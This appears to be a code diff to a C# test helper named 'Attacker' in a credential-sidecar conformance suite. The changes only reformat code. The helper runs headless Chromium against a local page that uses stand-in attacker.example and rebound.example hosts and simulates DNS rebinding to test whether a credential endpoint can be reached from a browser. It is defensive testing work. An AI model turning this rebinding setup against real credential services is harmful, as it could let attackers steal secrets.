@@ -8,7 +8,8 @@ using CredentialSidecar.Testing.Processes;
 
 namespace CredentialSidecar.Conformance.Access;
 
-/// <summary>A server whose page a browser in the task opens, and the browser: Chromium, without a window. The page reports what it got.</summary>
+/// <summary>A server with the attacker's page, and headless Chromium in the task that opens the page.</summary>
+/// <remarks>The page reports the results of its requests to the server.</remarks>
 /// <remarks>No name is looked up: the browser is told where attacker.example and rebound.example are.</remarks>
 internal sealed class Attacker : IAsyncDisposable
 {
@@ -17,7 +18,8 @@ internal sealed class Attacker : IAsyncDisposable
     [
         "--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
         "--disable-component-update", "--disable-sync", "--disable-dev-shm-usage", "--disable-popup-blocking",
-        "--host-resolver-rules=MAP attacker.example 127.0.0.1, MAP rebound.example 127.0.0.2, MAP * ~NOTFOUND, EXCLUDE 127.0.0.1, EXCLUDE 127.0.0.2, EXCLUDE 169.254.170.2",
+        "--host-resolver-rules=MAP attacker.example 127.0.0.1, MAP rebound.example 127.0.0.2, MAP * ~NOTFOUND, " +
+            "EXCLUDE 127.0.0.1, EXCLUDE 127.0.0.2, EXCLUDE 169.254.170.2",
     ];
 
     private readonly TaskCompletionSource<JsonNode> _report = new(TaskCreationOptions.RunContinuationsAsynchronously);
@@ -29,13 +31,17 @@ internal sealed class Attacker : IAsyncDisposable
     private ChildProcess? _browser;
 
     /// <param name="script">Of the page: an async function's body whose result is reported.</param>
-    /// <param name="rebound">The port of 127.0.0.1 where all goes that is not the page, once the page is loaded, as if its name led there by then.</param>
+    /// <param name="rebound">
+    /// A port of 127.0.0.1. Once the page is loaded, all other requests go there, as if the page's name had changed its address.
+    /// </param>
     /// <param name="network">Where the browser runs; this machine's own unless told otherwise.</param>
     public Attacker(string script, int? rebound = null, TaskNetwork? network = null)
     {
         _page = $$"""
             <!doctype html><meta name="referrer" content="no-referrer"><body><script>
-            (async () => { {{script}} })().catch(e => ({ fault: String(e) })).then(report => fetch("/report?" + encodeURIComponent(JSON.stringify(report))));
+            (async () => { {{script}} })()
+              .catch(e => ({ fault: String(e) }))
+              .then(report => fetch("/report?" + encodeURIComponent(JSON.stringify(report))));
             </script>
             """;
         (_rebound, _network) = (rebound, network);
@@ -49,7 +55,10 @@ internal sealed class Attacker : IAsyncDisposable
         var name = _rebound is null ? "attacker.example" : "rebound.example";
         await (_network?.OpenAsync(new IPEndPoint(IPAddress.Loopback, _server.Uri.Port), _server.Uri) ?? Task.CompletedTask);
         string[] words = [.. Options, $"--user-data-dir={_profile}", $"http://{name}:{_server.Uri.Port}/"];
-        _browser = _network is null ? ChildProcess.Start("chromium", words, CleanEnvironment.With()) : await _network.StartAsync("chromium", words, CleanEnvironment.With());
+        var environment = CleanEnvironment.With();
+        _browser = _network is null
+            ? ChildProcess.Start("chromium", words, environment)
+            : await _network.StartAsync("chromium", words, environment);
 
         try
         {
@@ -65,7 +74,8 @@ internal sealed class Attacker : IAsyncDisposable
         Installed.CommandAsync("Chromium is not installed: apt-get install -y --no-install-recommends chromium", "chromium", "--version");
 
     /// <summary>The words that have somebody type an address, and print the page that the browser then shows.</summary>
-    public static string[] Typing(string address, string profile) => ["chromium", .. Options, $"--user-data-dir={profile}", "--dump-dom", address];
+    public static string[] Typing(string address, string profile) =>
+        ["chromium", .. Options, $"--user-data-dir={profile}", "--dump-dom", address];
 
     public async ValueTask DisposeAsync()
     {
@@ -86,11 +96,13 @@ internal sealed class Attacker : IAsyncDisposable
         {
             using var inside = new TcpClient();
             await inside.ConnectAsync(IPAddress.Loopback, port, stop);
-            await inside.GetStream().WriteAsync(Encoding.Latin1.GetBytes(head.Replace("\r\n\r\n", "\r\nConnection: close\r\n\r\n", StringComparison.Ordinal)), stop);
+            var closing = head.Replace("\r\n\r\n", "\r\nConnection: close\r\n\r\n", StringComparison.Ordinal);
+            await inside.GetStream().WriteAsync(Encoding.Latin1.GetBytes(closing), stop);
             await inside.GetStream().CopyToAsync(stream, stop);
             return;
         }
 
-        await stream.WriteAsync(Encoding.UTF8.GetBytes($"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {_page.Length}\r\nConnection: close\r\n\r\n{_page}"), stop);
+        var answer = $"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Length: {_page.Length}\r\nConnection: close\r\n\r\n{_page}";
+        await stream.WriteAsync(Encoding.UTF8.GetBytes(answer), stop);
     }
 }
